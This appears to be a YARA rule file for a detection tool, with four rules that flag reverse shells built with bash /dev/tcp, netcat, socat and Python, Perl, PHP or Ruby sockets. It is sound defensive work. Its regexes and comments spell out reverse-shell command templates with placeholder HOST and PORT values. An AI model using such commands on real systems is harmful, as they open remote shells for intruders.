/*
 * vigil YARA rules: reverse shells.
 *
 * Written for vigil. A reverse shell connects out to an attacker and hands
 * a shell to that connection: the shell's standard input and output become
 * a socket. These rules look for that wiring in the ways it is commonly
 * written in bash, netcat, socat, Python, Perl, PHP and Ruby. Opening
 * /dev/tcp or a socket alone is ordinary (health checks do it); handing a
 * shell to it is not. Literal strings use \x escapes or character classes
 * so that this file never matches its own rules.
 */

rule reverse_shell_bash_dev_tcp
{
    meta:
        description = "Reverse shell: an interactive shell redirected to /dev/tcp"
        level = "high"
        category = "reverse_shell"
        family = "bash"

    strings:
        // bash -i >& /dev/tcp/HOST/PORT 0>&1
        $i = /\b(ba|da|z|k)?sh\s+-i\s+[0-9]?[<>]&?\s*\/dev\/(tcp|udp)\/[^\/\s]{1,255}\/[0-9]{1,5}/
        // exec 5<>/dev/tcp/HOST/PORT; ... sh <&5 >&5
        $fd = /exec\s+[0-9]{1,4}\s*<>\s*\/dev\/(tcp|udp)\/[^\/\s]{1,255}\/[0-9]{1,5}/
        $sh = /\b(ba|da|z|k)?sh\s+(-i\s+)?[0-9]?<&\s*[0-9]{1,4}\s+[0-9]?>&\s*[0-9]{1,4}/
        // 0<&196;exec 196<>/dev/tcp/... ; sh <&196 >&196 2>&196
        $loop = /while\s+read\s+[^\n]{0,100}\$\(?\s*[^\n]{0,40}\)?\s*[0-9]?>&\s*[0-9]{1,4}/

    condition:
        filesize < 8MB and ($i or ($fd and ($sh or $loop)))
}

rule reverse_shell_netcat
{
    meta:
        description = "Reverse shell: netcat runs a shell for the remote side"
        level = "high"
        category = "reverse_shell"
        family = "netcat"

    strings:
        // netcat started with -e or -c and a shell as the program to run
        // (a listening -l netcat is a bind shell, which exploit tools ship
        // as payload text; it is left out)
        $e = /\b(nc|ncat|netcat|nc\.traditional|nc\.openbsd)\s+((-[a-km-zA-Z0-9]{1,8}|[A-Za-z0-9.:][\-A-Za-z0-9.:]{0,63})\s+){0,4}-[ec]\s*['"]?(\/usr)?(\/bin\/)?(ba|da|z|k)?sh\b/
        // a named pipe looped through an interactive shell and netcat:
        // mkfifo PIPE; cat PIPE | SHELL -i | nc HOST PORT > PIPE
        $fifo = /\b(mkfifo|mknod)\s+[^\n;|&]{1,255}(\s+p)?\s*[;&\n][^\n]{0,200}\|\s*(\/usr)?(\/bin\/)?(ba|da|z|k)?sh(\s+-i)?[^\n|]{0,40}\|\s*(nc|ncat|netcat|telnet|openssl\s+s_client)\s/

    condition:
        filesize < 8MB and any of them
}

rule reverse_shell_socat
{
    meta:
        description = "Reverse shell: socat joins a shell to a TCP connection"
        level = "high"
        category = "reverse_shell"
        family = "socat"

    strings:
        $a = /socat\s[^\n]{0,200}(exec|system):['"]?(\/usr)?(\/bin\/)?(ba|da|z|k)?sh\b[^\n]{0,200}\s(tcp|tcp4|tcp6|openssl|ssl)(-connect)?:[^\s'"]{1,255}:[0-9]{1,5}/ nocase
        $b = /socat\s[^\n]{0,200}\s(tcp|tcp4|tcp6|openssl|ssl)(-connect)?:[^\s'"]{1,255}:[0-9]{1,5}[^\n]{0,200}\s(exec|system):['"]?(\/usr)?(\/bin\/)?(ba|da|z|k)?sh\b/ nocase

    condition:
        filesize < 8MB and any of them
}

rule reverse_shell_script_socket
{
    meta:
        description = "Reverse shell: a Python, Perl, PHP or Ruby program hands a shell to a socket"
        level = "high"
        category = "reverse_shell"
        family = "script"

    strings:
        // Python: connect to a literal address, dup2 the socket's fileno
        // onto descriptors 0-2, then run a shell or pty.spawn
        $py_conn = /\.connect\s*\(\s*\(\s*['"][^'"\n]{1,255}['"]\s*,\s*[0-9]{1,5}\s*\)\s*\)/
        $py_dup = /os\s*\.\s*dup2\s*\(\s*[A-Za-z_][A-Za-z0-9_]{0,30}\s*\.\s*fileno\s*\(\s*\)\s*,\s*[012]\s*\)/
        $py_sh1 = /['"](\/usr)?\/bin\/(ba|da|z|k)?sh['"]/
        $py_sh2 = /pty\s*\.\s*spawn\s*\(/
        // Perl: reopen STDIN and STDOUT onto the socket, then exec a shell
        $pl_in = /open\s*\(\s*STDIN\s*,\s*['"][<>]&\s*[A-Za-z_$][A-Za-z0-9_]{0,30}['"]\s*\)/
        $pl_out = /open\s*\(\s*STDOUT\s*,\s*['"]>&\s*[A-Za-z_$][A-Za-z0-9_]{0,30}['"]\s*\)/
        $pl_sock = /\b(socket\s*\(|IO::Socket::INET)/
        $pl_exec = /exec\s*\(?\s*['"](\/usr)?\/bin\/(ba|da|z|k)?sh/
        // PHP and Ruby: a shell whose standard input and output are
        // redirected from and to the socket's descriptor number
        $fd_sh = /(\/usr)?\/bin\/(ba|da|z|k)?sh\s+(-i\s+)?<&\s*(%d|[0-9]{1,4})\s+>&\s*(%d|[0-9]{1,4})/
        $sock = /\b(fsockopen|stream_socket_client|socket_connect|TCPSocket\s*\.\s*(open|new)|Socket\s*\.\s*new)\s*\(/

    condition:
        filesize < 8MB and
        (($py_conn and #py_dup >= 2 and 1 of ($py_sh*)) or
         ($pl_in and $pl_out and $pl_sock and $pl_exec) or
         ($fd_sh and $sock))
}
